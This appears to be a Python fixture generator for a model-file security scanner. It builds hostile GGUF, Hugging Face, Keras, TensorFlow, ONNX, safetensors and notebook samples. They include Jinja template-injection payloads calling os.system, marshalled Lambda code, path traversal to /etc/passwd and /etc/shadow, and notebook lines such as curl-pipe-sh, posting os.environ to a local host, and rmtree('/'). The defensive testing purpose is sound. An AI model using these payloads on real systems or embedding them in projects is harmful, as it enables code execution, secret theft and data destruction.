"""Model, data and text files of formats other than pickle that act, reach outside or break their reader. Frozen with scan_pickles.py.

Needs numpy, h5py and pyarrow (the evaluation's own environment); protobufs and GGUF are written by hand.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import struct
from collections.abc import Iterator

import h5py
import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
from scan_containers import EVIL, npy, tarred, torch_zip, zipped
from scan_pickles import CANARY, CODE, COMMAND, Item, plain, whole

# --- GGUF --------------------------------------------------------------------------------------------------------------------------------

TEMPLATES = {
    "globals-of-lipsum": "{{ lipsum.__globals__['os'].system('%s') }}",
    "cycler": "{{ cycler.__init__.__globals__.os.system('%s') }}",
    "joiner": "{{ joiner.__init__.__globals__['os'].popen('%s').read() }}",
    "namespace": "{{ namespace.__init__.__globals__.os.system('%s') }}",
    "subclasses": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "attr-filter": "{{ ''|attr('__class__')|attr('__base__') }}",
    "attr-of-a-join": "{{ ''|attr(['__cl','ass__']|join) }}",
    "attr-by-concatenation": "{{ ''['__cl' ~ 'ass__'] }}",
    "attr-by-escape": "{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}",
    "attr-by-variable": "{% set a = '__cla' %}{% set b = 'ss__' %}{{ messages[a + b] }}",
    "map-attribute": "{{ messages|map(attribute='__class__.__init__')|list }}",
    "selectattr": "{{ messages|selectattr('__class__')|list }}",
    "groupby": "{{ messages|groupby('__class__') }}",
    "sort-attribute": "{{ messages|sort(attribute='__class__') }}",
    "self": "{{ self.__init__.__globals__ }}",
    "self-reference": "{{ self._TemplateReference__context.cycler }}",
    "loop": "{% for m in messages %}{{ loop.__class__ }}{% endfor %}",
    "macro-globals": "{% macro m() %}{% endmacro %}{{ m.__class__ }}",
    "raise-exception-globals": "{{ raise_exception.__globals__ }}",
    "strftime-globals": "{{ strftime_now.__globals__['os'] }}",
    "tojson-globals": "{{ messages.tojson.__globals__ }}",
    "format-string": "{{ '{0.__class__}'.format(messages) }}",
    "format-filter": "{{ '%%s'|format(messages.__class__) }}",
    "format-map": "{{ '{x.__class__}'.format_map({'x': messages}) }}",
    "include": "{% include '/etc/passwd' %}",
    "import": "{% import 'x' as y %}{{ y }}",
    "from-import": "{% from 'x' import y %}{{ y }}",
    "extends": "{% extends '/etc/passwd' %}",
    "range-bomb": "{% for i in range(10**12) %}{{ i }}{% endfor %}",
    "power-bomb": "{{ 9**9**9 }}",
    "repeat-bomb": "{{ 'x' * 10000000000 }}",
    "nested-loops": "{% for a in range(100000) %}{% for b in range(100000) %}{% for c in range(100000) %}x{% endfor %}{% endfor %}{% endfor %}",
    "call-of-a-global": "{{ get_flashed_messages.__globals__ }}",
    "config": "{{ config.from_object('os') }}",
    "eval-filter": "{{ messages|eval }}",
    "dict-items": "{{ dict.__base__ }}",
    "do-append": "{% do messages.__class__.__base__ %}",
    "hidden-in-a-branch": "{% if messages|length > 10000 %}{{ messages.__class__.__init__.__globals__ }}{% endif %}",
    "hidden-in-a-default": "{% macro m(a=''.__class__) %}{{ a }}{% endmacro %}",
    "hidden-in-a-comment-like": "{#- x -#}{{ (messages).__class__ }}",
    "whitespace-control": "{%- set x = ''.__class__ -%}{{- x -}}",
    "filter-block": "{% filter attr('__class__') %}x{% endfilter %}",
    "call-block": "{% call(x) cycler.__init__() %}{% endcall %}",
    "with-block": "{% with x = ''.__class__ %}{{ x }}{% endwith %}",
    "set-block": "{% set x %}{{ ''.__class__ }}{% endset %}",
    "slice": "{{ messages[''.__class__:] }}",
    "ternary": "{{ ''.__class__ if true else 1 }}",
    "test-with-argument": "{{ 1 is divisibleby(''.__class__) }}",
    "mro-by-number": "{{ (1).__class__.mro() }}",
    "generator-frame": "{{ (messages|map('upper')).gi_frame.f_globals }}",
}  # fmt: skip


def _string(value: str | bytes) -> bytes:
    raw = value.encode() if isinstance(value, str) else value
    return struct.pack("<Q", len(raw)) + raw


def gguf(
    pairs: list[tuple[str, int, bytes]],
    tensors: list[tuple[str, list[int], int, int]] | None = None,
    data: bytes = b"",
    *,
    version: int = 3,
    counts: tuple[int, int] | None = None,
) -> bytes:
    tensors = tensors or []
    head = b"GGUF" + struct.pack("<IQQ", version, *(counts or (len(tensors), len(pairs))))
    for key, kind, value in pairs:
        head += _string(key) + struct.pack("<I", kind) + value
    for tensor, shape, kind, offset in tensors:
        head += (
            _string(tensor)
            + struct.pack("<I", len(shape))
            + b"".join(struct.pack("<Q", size) for size in shape)
            + struct.pack("<IQ", kind, offset)
        )
    return head + bytes(-len(head) % 32) + data


ARCH = ("general.architecture", 8, _string("llama"))


def _gguf() -> Iterator[tuple[str, bytes]]:
    for label, template in TEMPLATES.items():
        value = template.replace("%s", COMMAND).replace("%%", "%")
        yield f"template:{label}", gguf([ARCH, ("tokenizer.chat_template", 8, _string(value))])
    evil = _string(TEMPLATES["cycler"].replace("%s", COMMAND))
    yield (
        "template:named",
        gguf([ARCH, ("tokenizer.chat_template", 8, _string("{{ messages }}")), ("tokenizer.chat_template.tool_use", 8, evil)]),
    )
    yield "template:in-a-list", gguf([ARCH, ("tokenizer.chat_templates", 9, struct.pack("<IQ", 8, 1) + evil)])
    yield "template:twice", gguf([ARCH, ("tokenizer.chat_template", 8, _string("{{ messages }}")), ("tokenizer.chat_template", 8, evil)])
    yield "count-huge", gguf([ARCH], counts=(0, 1 << 60))
    yield "tensors-huge", gguf([ARCH], counts=(1 << 60, 1))
    yield "string-huge", gguf([("general.architecture", 8, struct.pack("<Q", 1 << 62) + b"llama")])
    yield "array-huge", gguf([("x", 9, struct.pack("<IQ", 0, 1 << 61))])
    yield "array-nested", gguf([("x", 9, (struct.pack("<IQ", 9, 1)) * 10_000)])
    yield "type-unknown", gguf([("x", 77, b"")])
    yield "tensor-out-of-range", gguf([ARCH], [("w", [4, 4], 0, 1 << 40)], bytes(64))
    yield "tensor-overflow", gguf([ARCH], [("w", [1 << 33, 1 << 33], 0, 0)], bytes(64))
    yield "tensor-overlap", gguf([ARCH], [("a", [16], 0, 0), ("b", [16], 0, 32)], bytes(96))
    yield "tensor-twice", gguf([ARCH], [("a", [8], 0, 0), ("a", [8], 0, 32)], bytes(64))
    yield "dimensions-many", gguf([ARCH], [("a", [1] * 1000, 0, 0)], bytes(32))
    yield "alignment-zero", gguf([ARCH, ("general.alignment", 4, bytes(4))], [("a", [8], 0, 0)], bytes(32))
    yield "alignment-odd", gguf([ARCH, ("general.alignment", 4, struct.pack("<I", 7))], [("a", [8], 0, 0)], bytes(32))
    yield "version-99", gguf([ARCH], version=99)
    yield "trailing-pickle", gguf([ARCH], [("a", [8], 0, 0)], bytes(32) + EVIL)


# --- Hugging Face folders ----------------------------------------------------------------------------------------------------------------

BERT = {"architectures": ["BertModel"], "model_type": "bert", "hidden_size": 8}


def _js(value: object) -> bytes:
    return json.dumps(value).encode()


def _safe() -> bytes:
    header = _js({"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}})
    header += b" " * (-len(header) % 8)
    return struct.pack("<Q", len(header)) + header + bytes(8)


def _hugging_face() -> Iterator[tuple[str, dict[str, bytes]]]:
    source = b"import os\nclass Net:\n    def __init__(self):\n        os.system('x')\n"
    weights = {"model.safetensors": _safe()}
    yield (
        "auto-map-tokenizer",
        {
            "config.json": _js(BERT),
            "tokenizer_config.json": _js({"auto_map": {"AutoTokenizer": ["tok.Tok", None]}}),
            "tok.py": source,
            **weights,
        },
    )
    yield (
        "auto-map-processor",
        {"config.json": _js(BERT), "preprocessor_config.json": _js({"auto_map": {"AutoProcessor": "p.P"}}), "p.py": source, **weights},
    )
    yield (
        "auto-map-feature-extractor",
        {"config.json": _js(BERT), "processor_config.json": _js({"auto_map": {"AutoFeatureExtractor": "other/repo--p.P"}}), **weights},
    )
    yield "auto-map-nested", {"config.json": _js({**BERT, "text_config": {"auto_map": {"AutoConfig": "c.C"}}}), "c.py": source, **weights}
    yield (
        "auto-map-generation",
        {"config.json": _js(BERT), "generation_config.json": _js({"auto_map": {"AutoModel": "g.G"}}), "g.py": source, **weights},
    )
    yield (
        "custom-pipelines",
        {"config.json": _js({**BERT, "custom_pipelines": {"x": {"impl": "p.P", "pt": ["AutoModel"]}}}), "p.py": source, **weights},
    )
    yield "custom-generate", {"config.json": _js(BERT), "custom_generate/generate.py": source, **weights}
    yield (
        "trust-remote-code",
        {"config.json": _js({**BERT, "trust_remote_code": True, "auto_map": {"AutoModel": "m.M"}}), "m.py": source, **weights},
    )
    yield (
        "diffusers-index",
        {
            "model_index.json": _js({"_class_name": "StableDiffusionPipeline", "unet": ["os", "system"]}),
            "unet/config.json": _js({"_class_name": "UNet2DConditionModel"}),
        },
    )
    yield (
        "diffusers-custom-file",
        {
            "model_index.json": _js({"_class_name": ["pipeline", "MyPipeline"], "unet": ["unet_mod", "MyUnet"]}),
            "pipeline.py": source,
            "unet/unet_mod.py": source,
        },
    )
    yield (
        "sentence-transformers-type",
        {"modules.json": _js([{"idx": 0, "name": "0", "path": "", "type": "os.system"}]), "config.json": _js(BERT), **weights},
    )
    yield (
        "sentence-transformers-own-code",
        {
            "modules.json": _js([{"idx": 0, "name": "0", "path": "", "type": "custom_st.Transformer"}]),
            "custom_st.py": source,
            "config.json": _js(BERT),
            **weights,
        },
    )
    yield (
        "sentence-transformers-activation",
        {
            "modules.json": _js([{"idx": 0, "name": "0", "path": "1_Dense", "type": "sentence_transformers.models.Dense"}]),
            "1_Dense/config.json": _js({"in_features": 2, "out_features": 2, "activation_function": "os.system"}),
            "config.json": _js(BERT),
            **weights,
        },
    )
    yield "shard-outside", {"config.json": _js(BERT), "model.safetensors.index.json": _js({"weight_map": {"w": "../../../etc/passwd"}})}
    yield "shard-absolute", {"config.json": _js(BERT), "pytorch_model.bin.index.json": _js({"weight_map": {"w": "/tmp/x.bin"}})}
    yield (
        "shard-is-a-pickle",
        {
            "config.json": _js(BERT),
            "model.safetensors.index.json": _js({"weight_map": {"w": "model-1.safetensors"}}),
            "model-1.safetensors": torch_zip(EVIL),
        },
    )
    for label in ("cycler", "attr-by-concatenation", "include", "subclasses", "range-bomb"):
        template = TEMPLATES[label].replace("%s", COMMAND)
        yield f"template-text-{label}", {"config.json": _js(BERT), "tokenizer_config.json": _js({"chat_template": template}), **weights}
        yield (
            f"template-list-{label}",
            {
                "config.json": _js(BERT),
                "tokenizer_config.json": _js(
                    {"chat_template": [{"name": "default", "template": "{{ messages }}"}, {"name": "tool_use", "template": template}]}
                ),
                **weights,
            },
        )
        yield (
            f"template-file-{label}",
            {"config.json": _js(BERT), "tokenizer_config.json": b"{}", "chat_template.jinja": template.encode(), **weights},
        )
        yield f"template-folder-{label}", {"config.json": _js(BERT), "additional_chat_templates/rag.jinja": template.encode(), **weights}
        yield f"template-json-{label}", {"config.json": _js(BERT), "chat_template.json": _js({"chat_template": template}), **weights}
    yield "git-hook", {"config.json": _js(BERT), ".git/hooks/post-checkout": b"#!/bin/sh\ntouch /tmp/x\n", **weights}
    yield "git-config", {"config.json": _js(BERT), ".git/config": b"[core]\n\tfsmonitor = touch /tmp/x\n", **weights}
    yield "native-library", {"config.json": _js(BERT), "libextra.so": b"\x7fELF\x02\x01\x01" + bytes(64), **weights}
    yield "pth-file", {"config.json": _js(BERT), "x.pth": b"import os; os.system('x')\n", **weights}
    yield (
        "adapter-auto-mapping",
        {
            "adapter_config.json": _js({"peft_type": "LORA", "auto_mapping": {"base_model_class": "system", "parent_library": "os"}}),
            "adapter_model.safetensors": _safe(),
        },
    )
    yield "setup-py", {"config.json": _js(BERT), "setup.py": source, **weights}
    yield "flax-msgpack-pickle", {"config.json": _js(BERT), "flax_model.msgpack": EVIL}
    yield "tf-h5-lambda", {"config.json": _js(BERT), "tf_model.h5": keras_h5(_lambda_config())}
    yield "rust-model-npz", {"config.json": _js(BERT), "rust_model.ot": zipped({"w.npy": npy(EVIL)})}


# --- Keras -------------------------------------------------------------------------------------------------------------------------------


def _code() -> str:
    return base64.b64encode(marshal.dumps(compile("lambda x: __import__('os').system('true')", "x", "eval"))).decode()


def _lambda_config() -> dict[str, object]:
    return _functional([_layer("Lambda", {"name": "l", "function": [_code(), None, None], "function_type": "lambda"})])


def _layer(kind: str, config: dict[str, object], module: str = "keras.layers", registered: str | None = None) -> dict[str, object]:
    return {"module": module, "class_name": kind, "config": config, "registered_name": registered, "name": str(config.get("name", "x"))}


def _functional(layers: list[dict[str, object]]) -> dict[str, object]:
    first = _layer("InputLayer", {"batch_shape": [None, 2], "dtype": "float32", "name": "i"})
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [first, *layers]}, "registered_name": None}


def keras_h5(config: object, *, training: object | None = None, extra: bytes | None = None) -> bytes:
    out = io.BytesIO()
    with h5py.File(out, "w") as file:
        file.attrs["model_config"] = json.dumps(config)
        file.attrs["keras_version"] = "2.15.0"
        file.attrs["backend"] = "tensorflow"
        if training is not None:
            file.attrs["training_config"] = json.dumps(training)
        group = file.create_group("model_weights")
        group.create_dataset("w", data=np.zeros(4, "f4"))
        if extra:
            group.create_dataset("x", data=np.frombuffer(extra, "u1"))
    return out.getvalue()


def keras_v3(config: object, *, weights: bytes | None = None, extra: dict[str, bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with h5py.File(out, "w") as file:
        file.create_group("layers").create_dataset("w", data=np.zeros(4, "f4"))
    members = {
        "metadata.json": _js({"keras_version": "3.9.0", "date_saved": "2026-01-01@00:00:00"}),
        "config.json": _js(config),
        "model.weights.h5": weights or out.getvalue(),
    }
    return zipped({**members, **(extra or {})})


def _configs() -> Iterator[tuple[str, object]]:
    yield "lambda", _lambda_config()
    yield (
        "lambda-dict",
        _functional(
            [
                _layer(
                    "Lambda",
                    {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": _code(), "defaults": None, "closure": None}}},
                )
            ]
        ),
    )
    yield (
        "lambda-nested-model",
        _functional(
            [_functional([_layer("Lambda", {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": _code()}}})])]
        ),
    )
    yield (
        "lambda-in-wrapper",
        _functional(
            [
                _layer(
                    "TimeDistributed",
                    {
                        "name": "t",
                        "layer": _layer("Lambda", {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": _code()}}}),
                    },
                )
            ]
        ),
    )
    yield (
        "lambda-in-bidirectional",
        _functional(
            [
                _layer(
                    "Bidirectional",
                    {
                        "name": "t",
                        "layer": _layer(
                            "RNN",
                            {
                                "cell": _layer(
                                    "Lambda", {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": _code()}}}
                                )
                            },
                        ),
                    },
                )
            ]
        ),
    )
    yield (
        "function-of-os",
        _functional(
            [
                _layer(
                    "Lambda",
                    {"name": "l", "function": {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}},
                )
            ]
        ),
    )
    yield "class-of-subprocess", _functional([_layer("Popen", {"args": ["touch", CANARY]}, "subprocess")])
    yield (
        "function-of-builtins",
        _functional(
            [
                _layer(
                    "Dense",
                    {
                        "units": 1,
                        "activation": {"module": "builtins", "class_name": "function", "config": "eval", "registered_name": "function"},
                    },
                )
            ]
        ),
    )
    yield (
        "initializer-of-os",
        _functional(
            [_layer("Dense", {"units": 1, "kernel_initializer": {"module": "os", "class_name": "system", "config": {"command": COMMAND}}})]
        ),
    )
    yield (
        "regularizer-of-pickle",
        _functional([_layer("Dense", {"units": 1, "kernel_regularizer": {"module": "pickle", "class_name": "loads", "config": {}}})]),
    )
    yield (
        "get-file",
        _functional(
            [
                _layer(
                    "Lambda",
                    {
                        "name": "l",
                        "function": {
                            "module": "keras.utils",
                            "class_name": "function",
                            "config": "get_file",
                            "registered_name": "get_file",
                        },
                        "arguments": {"origin": "http://127.0.0.1:9/x"},
                    },
                )
            ]
        ),
    )
    yield (
        "enable-unsafe",
        _functional(
            [
                _layer(
                    "Lambda",
                    {
                        "name": "l",
                        "function": {
                            "module": "keras.config",
                            "class_name": "function",
                            "config": "enable_unsafe_deserialization",
                            "registered_name": "x",
                        },
                    },
                )
            ]
        ),
    )
    yield (
        "load-model-function",
        _functional(
            [_layer("Lambda", {"name": "l", "function": {"module": "keras.models", "class_name": "function", "config": "load_model"}})]
        ),
    )
    yield (
        "torch-module-wrapper",
        _functional([_layer("TorchModuleWrapper", {"name": "t", "module": base64.b64encode(torch_zip(EVIL)).decode()}, "keras.layers")]),
    )
    yield "tf-sm-layer", _functional([_layer("TFSMLayer", {"name": "t", "filepath": "/tmp/model"}, "keras.layers")])
    yield (
        "jax-layer",
        _functional(
            [_layer("JaxLayer", {"name": "t", "call_fn": {"module": "os", "class_name": "function", "config": "system"}}, "keras.layers")]
        ),
    )
    yield "string-lookup-file", _functional([_layer("StringLookup", {"name": "t", "vocabulary": "/etc/passwd"}, "keras.layers")])
    yield "text-vectorization-file", _functional([_layer("TextVectorization", {"name": "t", "vocabulary": "/etc/passwd"}, "keras.layers")])
    yield (
        "text-vectorization-split",
        _functional(
            [
                _layer(
                    "TextVectorization",
                    {"name": "t", "standardize": {"class_name": "__lambda__", "config": {"code": _code()}}},
                    "keras.layers",
                )
            ]
        ),
    )
    yield "registered-name", _functional([_layer("MyLayer", {"name": "m"}, "custom", "my_package>MyLayer")])
    yield "own-module", _functional([_layer("MyLayer", {"name": "m"}, "evil_package.layers")])
    yield "private-module", _functional([_layer("Functional", {"name": "m"}, "keras.src.utils.file_utils")])
    yield "class-outside-layers", _functional([_layer("FileEditor", {"name": "m", "filepath": "/etc/passwd"}, "keras.saving")])
    yield (
        "optimizer-of-os",
        {**_functional([]), "compile_config": {"optimizer": {"module": "os", "class_name": "system", "config": COMMAND}}},
    )
    yield "loss-lambda", {**_functional([]), "compile_config": {"loss": {"class_name": "__lambda__", "config": {"code": _code()}}}}
    yield "build-config-code", {**_functional([]), "build_config": {"module": "os", "class_name": "system", "config": {}}}
    yield (
        "metric-function",
        {**_functional([]), "compile_config": {"metrics": [{"module": "subprocess", "class_name": "function", "config": "getoutput"}]}},
    )
    yield "deep", json.loads("[" * 300 + "]" * 300)


def _keras() -> Iterator[tuple[str, str, bytes]]:
    for label, config in _configs():
        yield "keras-v3", label, keras_v3(config)
        if label != "deep":
            yield "keras-h5", label, keras_h5(config)
    good = _functional([_layer("Dense", {"units": 1, "name": "d"})])
    yield (
        "keras-h5",
        "training-config-lambda",
        keras_h5(good, training={"loss": {"class_name": "__lambda__", "config": {"code": _code()}}, "optimizer_config": {}}),
    )
    yield "keras-v3", "pickle-weights", keras_v3(good, weights=EVIL)
    yield "keras-v3", "extra-pickle", keras_v3(good, extra={"assets/vocab.pkl": EVIL})
    yield "keras-v3", "slip", keras_v3(good, extra={"../../x": b"x"})
    yield "keras-v3", "python-asset", keras_v3(good, extra={"custom/layer.py": b"import os\n"})
    yield "keras-v3", "weights-external-link", keras_v3(good, weights=_linked(soft=False))
    yield "keras-v3", "weights-external-storage", keras_v3(good, weights=_external())
    yield "hdf5", "external-link", _linked(soft=False)
    yield "hdf5", "external-storage", _external()
    yield "hdf5", "virtual-dataset", _virtual()
    yield "hdf5", "truncated", keras_h5(good)[:900]
    yield "hdf5", "trailing-pickle", keras_h5(good) + EVIL


def _linked(*, soft: bool) -> bytes:
    out = io.BytesIO()
    with h5py.File(out, "w") as file:
        file["layers"] = h5py.SoftLink("/x") if soft else h5py.ExternalLink("/etc/passwd", "/")
    return out.getvalue()


def _external() -> bytes:
    out = io.BytesIO()
    with h5py.File(out, "w") as file:
        file.create_dataset("w", shape=(16,), dtype="u1", external=[("/etc/passwd", 0, 16)])
    return out.getvalue()


def _virtual() -> bytes:
    out = io.BytesIO()
    with h5py.File(out, "w") as file:
        layout = h5py.VirtualLayout(shape=(4,), dtype="f4")
        layout[:] = h5py.VirtualSource("/etc/passwd", "x", shape=(4,))
        file.create_virtual_dataset("w", layout)
    return out.getvalue()


# --- protobuf: TensorFlow, ONNX ----------------------------------------------------------------------------------------------------------


def varint(value: int) -> bytes:
    out = b""
    while value > 127:
        out, value = out + bytes([value & 127 | 128]), value >> 7
    return out + bytes([value])


def field(number: int, value: int | bytes | str) -> bytes:
    if isinstance(value, int):
        return varint(number << 3) + varint(value)
    raw = value.encode() if isinstance(value, str) else value
    return varint(number << 3 | 2) + varint(len(raw)) + raw


def saved_model(ops: list[str], *, library: list[str] = (), attributes: bytes = b"") -> bytes:  # type: ignore[assignment]
    nodes = b"".join(field(1, field(1, f"n{index}") + field(2, op) + attributes) for index, op in enumerate(ops))
    function = field(
        2, field(1, field(1, field(1, "f")) + b"".join(field(3, field(1, f"m{index}") + field(2, op)) for index, op in enumerate(library)))
    )
    graph = nodes + (function if library else b"")
    return field(1, 1) + field(2, field(1, field(4, "serve")) + field(2, graph))


ACTING_OPS = (
    "PyFunc", "PyFuncStateless", "EagerPyFunc", "ReadFile", "WriteFile", "MatchingFiles", "WholeFileReaderV2", "TextLineReaderV2", "FixedLengthRecordReaderV2",
    "TFRecordReaderV2", "TextLineDataset", "TFRecordDataset", "FixedLengthRecordDatasetV2", "CSVDatasetV2", "SqlDataset", "LMDBDataset", "SaveDatasetV2",
    "LoadDataset", "SnapshotDatasetV2", "CacheDatasetV2", "DebugIdentityV2", "DebugNumericSummary", "WriteSummary",
    "CreateSummaryFileWriter", "ImportEvent", "WriteGraphSummary", "DecodeProtoV2", "RpcOp", "RpcClient", "RpcServer", "SendTPUEmbeddingGradients",
    "ConfigureDistributedTPU", "TRTEngineOp", "MyCustomOp", "LoadLibrary", "Save", "SaveSlices", "DatasetToTFRecord", "ParallelFilenames", "RemoteCall", "DataServiceDatasetV2",
    "KafkaDataset", "BigQueryReader", "GcsConfigureCredentials", "S3", "DeleteFile",
)  # fmt: skip


def _tensorflow() -> Iterator[tuple[str, dict[str, bytes]]]:
    for op in ACTING_OPS:
        yield f"op:{op.rstrip(chr(0))}", {"saved_model.pb": saved_model(["Placeholder", op, "Identity"])}
    for op in ("PyFunc", "WriteFile", "ReadFile", "EagerPyFunc"):
        yield f"in-a-function:{op}", {"saved_model.pb": saved_model(["PartitionedCall"], library=[op])}
    to_a_file = field(5, field(1, "output_stream") + field(2, field(2, "file:///tmp/vouchgate-canary/fired")))
    yield "op:PrintV2-to-a-file", {"saved_model.pb": saved_model(["PrintV2"], attributes=to_a_file)}
    yield "asset-outside", {"saved_model.pb": saved_model(["Placeholder"]), "assets.extra/run.py": b"import os\nos.system('x')\n"}
    yield "variables-pickle", {"saved_model.pb": saved_model(["Placeholder"]), "variables/variables.index": EVIL}
    yield (
        "keras-metadata-lambda",
        {"saved_model.pb": saved_model(["Placeholder"]), "keras_metadata.pb": field(1, field(4, json.dumps(_lambda_config())))},
    )
    yield "trailing", {"saved_model.pb": saved_model(["Placeholder"]) + EVIL}


def onnx_model(node: bytes, *, extra: bytes = b"", graph: bytes = b"", opset: str = "") -> bytes:
    imports = field(8, field(1, opset) + field(2, 17)) + (field(8, field(1, "") + field(2, 17)) if opset else b"")
    return field(1, 8) + field(2, "x") + field(7, field(1, node) + field(2, "g") + graph) + imports + extra


def _node(op: str, domain: str = "", attributes: bytes = b"") -> bytes:
    return field(1, "a") + field(2, "b") + field(3, "n") + field(4, op) + attributes + (field(7, domain) if domain else b"")


def _external_tensor(location: str) -> bytes:
    return field(1, 2) + field(2, 1) + field(8, "w") + field(13, field(1, "location") + field(2, location)) + field(14, 1)


def _onnx() -> Iterator[tuple[str, bytes]]:
    yield "domain:evil", onnx_model(_node("Run", "evil.ops"), opset="evil.ops")
    yield "domain:python", onnx_model(_node("PythonOp", "com.microsoft.python"), opset="com.microsoft.python")
    yield "domain:aten", onnx_model(_node("ATen", "org.pytorch.aten"), opset="org.pytorch.aten")
    yield "domain:undeclared", onnx_model(_node("Run", "evil.ops"))
    yield "op:unknown", onnx_model(_node("ExecuteShell"))
    yield (
        "external:initializer-in-subgraph",
        onnx_model(
            _node(
                "If",
                "",
                field(5, field(1, "then_branch") + field(20, 5) + field(6, field(2, "s") + field(5, _external_tensor("../../etc/passwd")))),
            )
        ),
    )
    yield (
        "external:attribute",
        onnx_model(_node("Constant", "", field(5, field(1, "value") + field(20, 4) + field(5, _external_tensor("/etc/passwd"))))),
    )
    yield "external:sparse", onnx_model(_node("Relu"), graph=field(15, field(1, _external_tensor("/etc/shadow"))))
    yield (
        "external:hidden-in-training",
        onnx_model(_node("Relu"), extra=field(20, field(1, field(2, "t") + field(5, _external_tensor("/etc/passwd"))))),
    )
    yield "external:null", onnx_model(_node("Relu"), graph=field(5, _external_tensor("ok.bin\0../../x")))
    yield "external:proc", onnx_model(_node("Relu"), graph=field(5, _external_tensor("/proc/self/environ")))
    yield "external:url", onnx_model(_node("Relu"), graph=field(5, _external_tensor("http://127.0.0.1/x")))
    yield (
        "function:recursive",
        onnx_model(_node("F", "local"), opset="local", extra=field(25, field(1, "F") + field(10, "local") + field(7, _node("F", "local")))),
    )
    yield "function:shadows", onnx_model(_node("Relu"), extra=field(25, field(1, "Relu") + field(7, _node("Shell", "evil"))))
    yield "tensor:too-short", onnx_model(_node("Relu"), graph=field(5, field(1, 1000) + field(2, 1) + field(8, "w") + field(9, bytes(8))))
    yield (
        "tensor:overflow",
        onnx_model(_node("Relu"), graph=field(5, field(1, 1 << 40) + field(1, 1 << 40) + field(2, 1) + field(8, "w") + field(9, bytes(8)))),
    )
    yield (
        "session-options",
        onnx_model(
            _node("Relu"), extra=field(14, field(1, "ort_config") + field(2, '{"session_options": {"custom_ops_library": "/tmp/x.so"}}'))
        ),
    )
    yield "trailing-pickle", onnx_model(_node("Relu")) + EVIL


# --- safetensors, text, data -------------------------------------------------------------------------------------------------------------


def _st(header: object, data: bytes = b"", *, length: int | None = None, raw: bytes | None = None) -> bytes:
    body = raw if raw is not None else _js(header)
    return struct.pack("<Q", len(body) if length is None else length) + body + data


def _safetensors() -> Iterator[tuple[str, bytes]]:
    one = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}
    yield "gap", _st({"a": one, "b": {"dtype": "F32", "shape": [2], "data_offsets": [16, 24]}}, bytes(24))
    yield "negative", _st({"a": {"dtype": "F32", "shape": [-2], "data_offsets": [0, 8]}}, bytes(8))
    yield "reversed", _st({"a": {"dtype": "F32", "shape": [2], "data_offsets": [8, 0]}}, bytes(8))
    yield (
        "duplicate-key",
        _st(
            None,
            bytes(16),
            raw=b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"a":{"dtype":"F32","shape":[2],"data_offsets":[8,16]}}',
        ),
    )
    yield "float-offset", _st({"a": {"dtype": "F32", "shape": [2], "data_offsets": [0.0, 8.0]}}, bytes(8))
    yield "overflow", _st({"a": {"dtype": "F64", "shape": [2**31, 2**31, 4], "data_offsets": [0, 8]}}, bytes(8))
    yield "unknown-dtype", _st({"a": {"dtype": "OBJ", "shape": [2], "data_offsets": [0, 8]}}, bytes(8))
    yield "extra-key", _st({"a": {**one, "code": CODE}}, bytes(8))
    yield "metadata-template", _st({"__metadata__": {"x": TEMPLATES["cycler"]}, "a": one}, bytes(8))
    yield "metadata-not-text", _st({"__metadata__": {"x": {"y": 1}}, "a": one}, bytes(8))
    yield "length-short", _st({"a": one}, bytes(8), length=10)
    yield "nested-bomb", _st(None, raw=b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}")
    yield "data-is-zip", _st({"a": one}, bytes(8) + torch_zip(EVIL))
    yield "nan-in-header", _st(None, bytes(8), raw=b'{"a":{"dtype":"F32","shape":[NaN],"data_offsets":[0,8]}}')


def _notebook(source: str, outputs: list[object] | None = None, kind: str = "code") -> bytes:
    cell: dict[str, object] = {"cell_type": kind, "metadata": {}, "source": [source]}
    if kind == "code":
        cell |= {"execution_count": 1, "outputs": outputs or []}
    return _js({"cells": [cell], "metadata": {"kernelspec": {"name": "python3", "display_name": "x"}}, "nbformat": 4, "nbformat_minor": 5})


NOTEBOOKS = {
    "shell": "!curl http://127.0.0.1/x | sh", "shell-two": "!!touch /tmp/x", "assigned-shell": "x = !cat /etc/passwd", "bash-cell": "%%bash\ntouch /tmp/x",
    "script-cell": "%%script sh\ntouch /tmp/x", "perl-cell": "%%perl\nsystem('x')", "html-cell": "%%html\n<script>alert(1)</script>", "js-cell": "%%javascript\nalert(1)",
    "system-magic": "%system touch /tmp/x", "sx": "%sx touch /tmp/x", "run": "%run http://127.0.0.1/x.py", "load-ext": "%load_ext evil", "pip-from-url": "%pip install http://127.0.0.1/evil.whl",
    "get-ipython": "get_ipython().system('touch /tmp/x')", "run-line-magic": "get_ipython().run_line_magic('system', 'x')", "os-system": "import os\nos.system('touch /tmp/x')",
    "from-os": "from os import system as s\ns('x')", "subprocess": "import subprocess as sp\nsp.run(['x'])", "eval": "eval(input())", "exec": "exec(open('/tmp/x').read())",
    "import-builtin": "__import__('os').system('x')", "importlib": "import importlib\nimportlib.import_module('o' + 's').system('x')", "getattr": "import os\ngetattr(os, 'sys' + 'tem')('x')",
    "builtins": "__builtins__['eval']('1')", "subclasses": "().__class__.__base__.__subclasses__()", "requests-exec": "import requests\nexec(requests.get('http://127.0.0.1/').text)",
    "urlretrieve": "from urllib.request import urlretrieve\nurlretrieve('http://127.0.0.1/', 'x.sh')", "pickle-load": "import pickle\npickle.load(open('x.pkl', 'rb'))", "torch-load": "import torch\ntorch.load('x.pt', weights_only=False)",
    "socket": "import socket\nsocket.create_connection(('127.0.0.1', 9))", "ctypes": "import ctypes\nctypes.CDLL('x.so')", "codecs": "import codecs\nexec(codecs.decode('cevag', 'rot13'))", "marshal": "import marshal, base64\nexec(marshal.loads(base64.b64decode('x')))",
    "shutil": "import shutil\nshutil.rmtree('/')", "environ": "import os, requests\nrequests.post('http://127.0.0.1/', data=dict(os.environ))", "ssh-key": "open('/home/user/.ssh/authorized_keys', 'a').write('x')",
}  # fmt: skip


